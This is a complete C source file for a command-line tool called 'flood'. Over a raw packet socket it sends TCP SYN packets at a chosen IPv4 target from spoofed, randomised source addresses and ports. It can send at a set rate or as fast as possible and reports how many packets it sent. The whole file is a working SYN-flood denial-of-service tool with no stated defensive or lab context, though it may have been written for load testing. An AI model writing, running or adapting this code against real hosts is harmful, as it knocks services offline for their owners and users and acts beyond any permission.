// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Sends SYNs of clients that do not exist, over a packet socket, until SIGTERM or the time is over.
 *
 *	flood INTERFACE MAC ADDRESS PORT [-n SOURCES/LENGTH] [-r PACKETS_PER_SECOND] [-s SECONDS]
 *
 * MAC and ADDRESS (IPv4) are the target's. Sources are random addresses of the block, 10.0.0.0/8
 * if not told, with random ports. Prints one JSON object: packets sent, and in how many seconds.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define NS    1000000000ULL

struct packet {
	struct ether_header ethernet;
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t options[4]; /* MSS */
} __attribute__((packed));

struct flood {
	int fd;
	struct packet model;
	uint32_t network, hosts; /* of the sources: host order; the bits that vary */
	uint64_t rate;		 /* packets per second, 0 = as fast as can be */
	uint64_t end;		 /* nanoseconds, 0 = when told */
	uint64_t random;
};

static volatile sig_atomic_t stopped;

static void on_signal(int number)
{
	stopped = 1;
}

static void die(const char *what)
{
	fprintf(stderr, "flood: %s: %s\n", what, errno ? strerror(errno) : "not understood");
	exit(1);
}

static uint64_t now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec * NS + time.tv_nsec;
}

/* xorshift64 */
static uint64_t next_random(struct flood *flood)
{
	flood->random ^= flood->random << 13;
	flood->random ^= flood->random >> 7;
	return flood->random ^= flood->random << 17;
}

/* RFC 1071, over an even number of bytes. */
static uint64_t sum_of(const void *data, size_t size)
{
	uint64_t sum = 0;
	uint16_t word;

	for (size_t i = 0; i < size; i += 2) {
		memcpy(&word, (const char *)data + i, 2);
		sum += word;
	}
	return sum;
}

static uint16_t folded(uint64_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

static void make_packet(struct flood *flood, struct packet *packet)
{
	uint64_t random = next_random(flood);
	size_t size = sizeof(packet->tcp) + sizeof(packet->options);

	*packet = flood->model;
	packet->ip.saddr = htonl(flood->network | (random & flood->hosts));
	packet->ip.check = folded(sum_of(&packet->ip, sizeof(packet->ip)));
	packet->tcp.source = htons(1024 + (random >> 32) % 64512);
	packet->tcp.seq = random >> 16;
	packet->tcp.check = folded(sum_of(&packet->tcp, size) + sum_of(&packet->ip.saddr, 8) +
				   htons(IPPROTO_TCP) + htons(size));
}

/* ---- what is asked for ------------------------------------------------------------------- */

static void make_model(struct packet *model, const char *mac, const char *address, const char *port)
{
	uint8_t *to = model->ethernet.ether_dhost;

	if (sscanf(mac, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &to[0], &to[1], &to[2], &to[3], &to[4],
		   &to[5]) != 6)
		die(mac);
	model->ethernet.ether_type = htons(ETHERTYPE_IP);
	model->ip = (struct iphdr){.version = 4,
				   .ihl = 5,
				   .tot_len = htons(sizeof(*model) - sizeof(model->ethernet)),
				   .ttl = 64,
				   .protocol = IPPROTO_TCP};
	if (inet_pton(AF_INET, address, &model->ip.daddr) != 1)
		die(address);
	model->tcp.dest = htons(atoi(port));
	model->tcp.doff = (sizeof(model->tcp) + sizeof(model->options)) / 4;
	model->tcp.syn = 1;
	model->tcp.window = htons(64240);
	memcpy(model->options, (uint8_t[]){2, 4, 1460 >> 8, 1460 & 0xff}, 4);
}

static void open_socket(struct flood *flood, const char *interface)
{
	struct sockaddr_ll address = {.sll_family = AF_PACKET,
				      .sll_ifindex = if_nametoindex(interface)};
	struct ifreq request = {0};
	int on = 1;

	flood->fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0); /* receives nothing */
	if (!address.sll_ifindex || flood->fd < 0 ||
	    bind(flood->fd, (struct sockaddr *)&address, sizeof(address)))
		die(interface);
	snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", interface);
	if (ioctl(flood->fd, SIOCGIFHWADDR, &request))
		die(interface);
	memcpy(flood->model.ethernet.ether_shost, request.ifr_hwaddr.sa_data, 6);
	(void)setsockopt(flood->fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on));
}

static void parse_sources(struct flood *flood, char *text)
{
	char *slash = strchr(text, '/');
	struct in_addr address;
	int length = slash ? atoi(slash + 1) : 32;

	if (slash)
		*slash = 0;
	errno = 0;
	if (inet_pton(AF_INET, text, &address) != 1 || length < 0 || length > 32)
		die(text);
	flood->hosts = length == 32 ? 0 : UINT32_MAX >> length;
	flood->network = ntohl(address.s_addr) & ~flood->hosts;
}

static void parse(struct flood *flood, int argc, char **argv)
{
	int option;

	if (argc < 5) {
		fprintf(stderr, "usage: flood INTERFACE MAC ADDRESS PORT [-n SOURCES/LENGTH] "
				"[-r PACKETS_PER_SECOND] [-s SECONDS]\n");
		exit(2);
	}
	make_model(&flood->model, argv[2], argv[3], argv[4]);
	open_socket(flood, argv[1]);
	optind = 5;
	while ((option = getopt(argc, argv, "n:r:s:")) != -1) {
		if (option == 'n')
			parse_sources(flood, optarg);
		else if (option == 'r')
			flood->rate = strtoull(optarg, NULL, 10);
		else if (option == 's')
			flood->end = now() + strtod(optarg, NULL) * NS;
		else
			exit(2);
	}
}

/* ---- the flood --------------------------------------------------------------------------- */

static unsigned int send_batch(struct flood *flood)
{
	static struct packet packets[BATCH];
	static struct iovec parts[BATCH];
	static struct mmsghdr messages[BATCH];
	int n;

	for (int i = 0; i < BATCH; i++) {
		make_packet(flood, &packets[i]);
		parts[i] = (struct iovec){&packets[i], sizeof(packets[i])};
		messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
	}
	n = sendmmsg(flood->fd, messages, BATCH, 0);
	if (n < 0 && errno != EINTR && errno != ENOBUFS && errno != EAGAIN)
		die("send");
	return n < 0 ? 0 : n;
}

static void pace(const struct flood *flood, uint64_t began, uint64_t sent)
{
	uint64_t due = flood->rate ? began + sent * NS / flood->rate : 0;
	struct timespec until = {due / NS, due % NS};

	if (due)
		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &until, NULL);
}

int main(int argc, char **argv)
{
	struct flood flood = {.network = 10 << 24, .hosts = 0xffffff};
	uint64_t sent = 0, began = now();

	flood.random = began | 1;
	parse(&flood, argc, argv);
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	while (!stopped && (!flood.end || now() < flood.end)) {
		sent += send_batch(&flood);
		pace(&flood, began, sent);
	}
	printf("{\"sent\": %llu, \"seconds\": %.3f}\n", (unsigned long long)sent,
	       (double)(now() - began) / NS);
	return 0;
}
